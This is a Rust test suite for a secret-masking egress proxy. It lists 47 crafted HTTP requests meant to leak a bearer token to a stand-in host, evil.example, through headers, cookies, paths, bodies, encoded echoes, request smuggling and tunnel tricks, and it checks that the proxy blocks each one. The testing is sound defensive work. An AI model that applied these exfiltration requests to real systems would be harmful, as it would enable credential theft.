//! A hostile program tries to steal the value of a secret. None of the listed attacks may succeed. If any check is
//! disabled, at least one attack succeeds.

use super::setup::{TestSetup, VALUE, exchange};
use lango_net::{Check, RefusalReason};
use lango_secrets::{Masks, SecretValue};

/// An attack: the request, and how it is sent.
enum Attack {
    /// To the bound server, over TLS.
    Request(&'static str),
    /// To the attacker's server, over TLS.
    Evil(&'static str),
    /// Through a tunnel to a target, with a TLS server name.
    Tunnel(&'static str, &'static str, &'static str),
    /// Through a tunnel to a target, without TLS.
    Plain(&'static str, &'static str),
    /// To the proxy itself, in absolute form.
    Forward(&'static str),
}
use Attack::{Evil, Forward, Plain, Request, Tunnel};

const BEARER: &str = "Authorization: Bearer {P}\r\n";

/// The attacks and their names.
const ATTACKS: [(&str, Attack); 47] = [
    (
        "other host",
        Evil("GET / HTTP/1.1\r\nHost: {E}\r\nAuthorization: Bearer {P}\r\n\r\n"),
    ),
    (
        "other host, basic",
        Evil("GET / HTTP/1.1\r\nHost: {E}\r\nAuthorization: Basic {P64}\r\n\r\n"),
    ),
    (
        "other host, Host of the bound one",
        Evil("GET / HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer {P}\r\n\r\n"),
    ),
    (
        "other header",
        Request("GET /echo HTTP/1.1\r\nHost: {H}\r\nX-Token: {P}\r\n\r\n"),
    ),
    (
        "cookie",
        Request("GET /echo HTTP/1.1\r\nHost: {H}\r\nCookie: a={P}\r\n\r\n"),
    ),
    (
        "name of a header",
        Request("GET /echo HTTP/1.1\r\nHost: {H}\r\n{P}: a\r\n\r\n"),
    ),
    ("path", Request("GET /{P} HTTP/1.1\r\nHost: {H}\r\n\r\n")),
    (
        "query",
        Request("GET /?a={P} HTTP/1.1\r\nHost: {H}\r\n\r\n"),
    ),
    (
        "query, escaped",
        Request("GET /?a=%6cango_secret_{D} HTTP/1.1\r\nHost: {H}\r\n\r\n"),
    ),
    ("method", Request("{P} / HTTP/1.1\r\nHost: {H}\r\n\r\n")),
    (
        "body",
        Request("POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 45\r\n\r\n{P}"),
    ),
    (
        "body, base64",
        Request("POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 80\r\n\r\n{P64}"),
    ),
    (
        "body, split over chunks",
        Request(
            "POST / HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nlango_\r\n7\r\nsecret_\r\n20\r\n{D}\r\n0\r\n\r\n",
        ),
    ),
    (
        "trailer",
        Request(
            "POST / HTTP/1.1\r\nHost: {H}\r\nTrailer: x-t\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nx-t: {P}\r\n\r\n",
        ),
    ),
    (
        "echo",
        Request("GET /echo HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo of basic",
        Request("GET /echo HTTP/1.1\r\nHost: {H}\r\nAuthorization: Basic {P64}\r\n\r\n"),
    ),
    (
        "echo in base64",
        Request("GET /base64 HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo in hexadecimal",
        Request("GET /hex HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo in JSON",
        Request("GET /json HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo in percent",
        Request("GET /percent HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo, gzip",
        Request("GET /gzip HTTP/1.1\r\nHost: {H}\r\nAccept-Encoding: gzip\r\n{B}\r\n"),
    ),
    (
        "echo, gzip unasked",
        Request("GET /gzip HTTP/1.1\r\nHost: {H}\r\nAccept-Encoding: identity\r\n{B}\r\n"),
    ),
    (
        "echo, deflate",
        Request("GET /zlib HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo, raw deflate",
        Request("GET /deflate HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo, brotli",
        Request("GET /brotli HTTP/1.1\r\nHost: {H}\r\nAccept-Encoding: br\r\n{B}\r\n"),
    ),
    (
        "echo in headers",
        Request("GET /in-header HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo in the reason phrase",
        Request("GET /reason HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "range of an echo",
        Request("GET /range HTTP/1.1\r\nHost: {H}\r\nRange: bytes=0-24\r\n{B}\r\n"),
    ),
    (
        "length of an echo by HEAD",
        Request("HEAD /echo HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "redirect, followed with the header",
        Evil("GET /after-redirect HTTP/1.1\r\nHost: {E}\r\nAuthorization: Bearer {P}\r\n\r\n"),
    ),
    (
        "Host of the attacker",
        Request("GET / HTTP/1.1\r\nHost: evil.example\r\n{B}\r\n"),
    ),
    (
        "two Hosts",
        Request("GET / HTTP/1.1\r\nHost: {H}\r\nHost: evil.example\r\n{B}\r\n"),
    ),
    (
        "absolute address of the attacker",
        Request("GET https://evil.example/ HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "server name of the bound host at the attacker's",
        Tunnel(
            "evil.example:{e}",
            "api.example",
            "GET / HTTP/1.1\r\nHost: {H}\r\n{B}\r\n",
        ),
    ),
    (
        "user in CONNECT",
        Tunnel(
            "api.example:{a}@evil.example:{e}",
            "api.example",
            "GET / HTTP/1.1\r\nHost: {H}\r\n{B}\r\n",
        ),
    ),
    (
        "smuggled request",
        Request(
            "POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.example\r\n{B}\r\n",
        ),
    ),
    (
        "plain http by the proxy",
        Forward(
            "GET http://api.example:{ap}/echo HTTP/1.1\r\nHost: api.example:{ap}\r\n{B}Connection: close\r\n\r\n",
        ),
    ),
    (
        "plain http in a tunnel",
        Plain(
            "api.example:{ap}",
            "GET /echo HTTP/1.1\r\nHost: api.example:{ap}\r\n{B}Connection: close\r\n\r\n",
        ),
    ),
    (
        "WebSocket",
        Request(
            "GET /echo HTTP/1.1\r\nHost: {H}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n{B}\r\n",
        ),
    ),
    (
        "a part of a stored echo",
        Request("GET /last HTTP/1.1\r\nHost: {H}\r\nRange: bytes=0-24\r\n\r\n"),
    ),
    (
        "a stored echo, gzip",
        Request("GET /last-gzip HTTP/1.1\r\nHost: {H}\r\n\r\n"),
    ),
    (
        "a stored echo by plain http",
        Forward(
            "GET http://api.example:{ap}/last HTTP/1.1\r\nHost: api.example:{ap}\r\nConnection: close\r\n\r\n",
        ),
    ),
    (
        "a stored echo in a plain tunnel",
        Plain(
            "api.example:{ap}",
            "GET /last-gzip HTTP/1.1\r\nHost: api.example:{ap}\r\nConnection: close\r\n\r\n",
        ),
    ),
    (
        "a stored echo in a plain tunnel, behind an empty line",
        Plain(
            "api.example:{ap}",
            "\r\nGET /last-gzip HTTP/1.1\r\nHost: api.example:{ap}\r\nConnection: close\r\n\r\n",
        ),
    ),
    (
        "a stored echo by HTTP/2",
        Plain("api.example:{ap}", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    ),
    (
        "Host of the bound one in plain http",
        Forward(
            "GET http://evil.example:{ep}/ HTTP/1.1\r\nHost: {H}\r\n{B}Connection: close\r\n\r\n",
        ),
    ),
    (
        "padding before the value",
        Request("GET /range HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer xxxxxxxx{P}\r\n\r\n"),
    ),
];

/// The outcome of an attack.
struct Outcome {
    received: String,
    /// How the attack succeeded, if it did.
    stolen: Option<&'static str>,
}

async fn attempt(setup: &TestSetup, attack: &Attack) -> Outcome {
    let fill = |text: &str| {
        let digest = setup.placeholder.trim_start_matches("lango_secret_");
        let text = text.replace("{B}", BEARER).replace("{D}", digest);
        let text = text
            .replace("{E}", &format!("evil.example:{}", setup.evil.secure))
            .replace("{e}", &setup.evil.secure.to_string())
            .replace("{a}", &setup.api.secure.to_string())
            .replace("{ep}", &setup.evil.plain.to_string())
            .replace("{ap}", &setup.api.plain.to_string());
        // Close the connection, so that the test need not wait for a timeout.
        let text = text.replacen("\r\nHost:", "\r\nConnection: close\r\nHost:", 1);
        setup.fill(&text)
    };
    let api = format!("api.example:{}", setup.api.secure);
    let evil = format!("evil.example:{}", setup.evil.secure);
    let over_tls =
        async |target: &str, name: &str, request: &str| match setup.connect(target, name).await {
            Ok(stream) => exchange(stream, request.as_bytes()).await,
            Err(error) => format!("not connected: {error}"),
        };
    setup.api.log.lock().unwrap().clear();
    let received = match attack {
        Request(request) => over_tls(&api, "api.example", &fill(request)).await,
        Evil(request) => over_tls(&evil, "evil.example", &fill(request)).await,
        Tunnel(target, name, request) => over_tls(&fill(target), name, &fill(request)).await,
        Plain(target, request) => match setup.tunnel(&fill(target)).await {
            Ok(stream) => exchange(stream, fill(request).as_bytes()).await,
            Err(error) => format!("not connected: {error}"),
        },
        Forward(request) => crate::proxy::exchange(setup.proxy, &fill(request)).await,
    };
    let stolen = find_leak(setup, &received);
    Outcome { received, stolen }
}

fn find_leak(setup: &TestSetup, received: &str) -> Option<&'static str> {
    let masks = Masks::default();
    masks.add("VALUE", &SecretValue::new(VALUE));
    let contains = |text: &str| {
        let mut stream = masks.stream();
        stream.push(text.as_bytes());
        stream.finish();
        // The first characters alone count as a leak, too.
        stream.echoes() > 0 || text.contains(&VALUE[..8])
    };
    let api = setup.api.log();
    let other_lines = api
        .lines()
        .filter(|line| !line.starts_with("authorization: "));
    let other_lines: Vec<&str> = other_lines.collect();
    let echo = format!("you sent Bearer {VALUE}, thank you");
    if contains(received) {
        Some("the program received the value")
    } else if received.contains(&format!("content-length: {}", echo.len())) {
        Some("the program received the length of the value")
    } else if contains(&setup.evil.log()) {
        Some("the attacker's server got the value")
    } else if contains(&other_lines.join("\n")) {
        Some("the value is elsewhere in the request")
    } else if setup.evil.log().contains("host: api.example") || api.contains("evil.example") {
        Some("a request for one host reached the other")
    } else if (setup.evil.log() + &api).contains("lango_secret_") {
        Some("a placeholder was forwarded")
    } else {
        None
    }
}

#[tokio::test]
async fn no_attack_steals_the_value() {
    let setup = TestSetup::new().await;
    let mut stolen = Vec::new();
    for (name, attack) in &ATTACKS {
        let outcome = attempt(&setup, attack).await;
        let first = outcome.received.lines().next().unwrap_or("nothing");
        let last = outcome.received.lines().last().unwrap_or_default();
        println!("{name:50} {first} … {last:.160}");
        stolen.extend(outcome.stolen.map(|what| (name, what)));
    }
    assert!(stolen.is_empty(), "{stolen:?}");
    let refusals = setup.handle.refusals();
    let places = refusals.iter().filter_map(|refusal| match &refusal.reason {
        RefusalReason::Placeholder { place, .. } => Some(place.as_str()),
        _ => None,
    });
    let places: Vec<&str> = places.collect();
    for place in [
        "the body",
        "a trailer",
        "the path",
        "the query",
        "the header `x-token`",
    ] {
        assert!(places.contains(&place), "{place}: {places:?}");
    }
    let blocked = setup.blocked();
    let evil = format!(
        "TOKEN in the header `authorization` to evil.example:{}",
        setup.evil.secure
    );
    assert!(blocked.contains(&evil), "{blocked:?}");
    let text = refusals[0].to_string();
    let allowed = format!(
        "the secret `TOKEN` was in the header `authorization`; it may only be in the header `authorization` to https://api.example:{}",
        setup.api.secure
    );
    assert!(text.contains(&allowed), "{text}");
}

#[tokio::test]
async fn each_check_stops_at_least_one_attack() {
    for check in [
        Check::SecretOrigin,
        Check::SecretPlace,
        Check::SecretMasks,
        Check::SecretRange,
    ] {
        let setup = TestSetup::with(|egress| egress.without(check)).await;
        let mut stolen = Vec::new();
        for (name, attack) in &ATTACKS {
            let outcome = attempt(&setup, attack).await;
            stolen.extend(outcome.stolen.map(|what| (*name, what)));
        }
        println!("without {check:?}: {stolen:?}");
        assert!(!stolen.is_empty(), "{check:?} stops no attack");
    }
}
